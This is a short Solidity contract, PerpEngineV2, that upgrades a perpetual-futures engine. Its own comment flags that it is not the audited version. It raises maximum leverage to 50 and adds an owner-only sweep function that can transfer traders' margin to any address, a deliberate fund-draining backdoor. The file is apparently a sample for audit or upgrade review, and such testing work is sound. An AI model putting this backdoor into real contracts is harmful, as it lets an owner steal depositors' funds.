// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {PerpEngine} from "./PerpEngine.sol";

/// Not what was audited: five times the leverage, and the owner can sweep the traders' margin.
contract PerpEngineV2 is PerpEngine {
    using SafeERC20 for IERC20;

    event Swept(address indexed to, uint256 amount);

    function maxLeverage() public pure override returns (uint256) {
        return 50;
    }

    function sweep(address to, uint256 amount) external onlyOwner {
        margin.safeTransfer(to, amount);
        emit Swept(to, amount);
    }
}
